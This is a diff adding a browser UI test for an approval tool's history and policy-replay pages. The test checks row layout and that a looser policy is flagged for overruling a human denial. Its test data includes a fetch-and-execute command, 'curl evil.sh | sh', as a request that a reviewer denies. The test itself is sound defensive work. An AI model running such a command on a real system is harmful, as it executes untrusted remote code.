@@ -112,3 +112,41 @@ def test_a_decided_card_links_times_and_undoes(page: Any, web: Web) -> None:
     (asked,) = [e for e in map(json.loads, lines) if e["event"] == "undo_requested"]
     assert (asked["by"], asked["surface"], asked["reason"]) == ("alice", "web", "opened by mistake")
     assert [e["event"] for e in map(json.loads, lines)][-1] == "undone"
+
+
+LOOSER = '[[rules]]\neffect = "test.record"\naction = "auto"\nreason = "trust records"\n'
+
+
+def test_history_and_replay_rows_fit_and_replay_names_who_denied(page: Any, web: Web) -> None:
+    """At 1280 px each history and replay row is one line (short ref, effect, what,
+    outcome, actor); replaying a looser policy puts 'would auto-apply 1 request people
+    denied' above the table and the denied request's row says 'was: denied by bob'."""
+    expect = _expect()
+    denied = web.gated(params={"value": "curl evil.sh | sh"})
+    web.client("bob").post(
+        f"/api/v1/requests/default/{denied['id']}/decision",
+        json={"verdict": "deny", "reason": "never", "request_sha256": denied["request_sha256"]},
+    )
+    web.harness.wait(denied["id"])
+    page.set_viewport_size({"width": 1280, "height": 800})
+    page.goto(f"{web.url}/history")
+    row = page.locator(f"tr.history-row[data-ref='default/{denied['id']}']")
+    expect(row.locator("a.ref")).to_have_text(denied["id"][:8])
+    expect(row.locator("td.effect")).to_have_text("test.record")
+    expect(row.locator("td.by")).to_have_text("bob")
+    text = box(page, f"tr.history-row[data-ref='default/{denied['id']}'] a.ref")
+    whole = box(page, f"tr.history-row[data-ref='default/{denied['id']}']")
+    assert whole["height"] < 2.5 * text["height"]  # one line of text, and its padding
+
+    page.goto(f"{web.url}/history/replay")
+    page.fill("#policy", LOOSER)
+    page.click("#replay")
+    loud = page.locator("#overruled")
+    expect(loud).to_contain_text("would auto-apply 1 request people denied")
+    changed = page.locator(f"tr.change[data-ref='default/{denied['id']}']")
+    expect(changed.locator(".was")).to_have_text("was: denied by bob")
+    assert box(page, "#overruled")["y"] < box(page, "table.changes")["y"]
+    cells = [
+        box(page, f"tr.change[data-ref='default/{denied['id']}'] td:nth-child({n})") for n in (1, 5)
+    ]
+    assert abs(cells[0]["y"] - cells[1]["y"]) < 2 and cells[1]["height"] < 40  # one line
